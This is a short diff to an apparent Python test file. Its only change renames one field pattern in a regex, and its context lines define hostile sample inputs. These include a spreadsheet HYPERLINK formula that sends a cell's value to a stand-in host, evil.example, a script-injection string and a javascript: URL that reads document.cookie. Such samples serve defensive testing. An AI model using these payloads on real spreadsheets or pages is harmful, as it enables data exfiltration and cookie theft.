@@ -30,7 +30,7 @@ HOSTILE = """=HYPERLINK("http://evil.example?"&A1,"x")<script>alert(1)</script>'
 ADDRESS = "javascript:alert(document.cookie)"
 WORDS = {"framework", "record", "programme", "steward", "release"}
 KEEPS_ITS_MEANING = re.compile(
-    r"code$|paradigm$|geometry$|clause$|formula$|computed$|^kind|unit$|color|marker|iso$|ubigeo$|locale|contact$|^role$|hash|cleared_by"
+    r"code$|paradigm$|geometry$|clause$|formula$|computed$|^kind|unit$|color|marker|iso$|area_code$|locale|contact$|^role$|hash|cleared_by"
 )
 
 
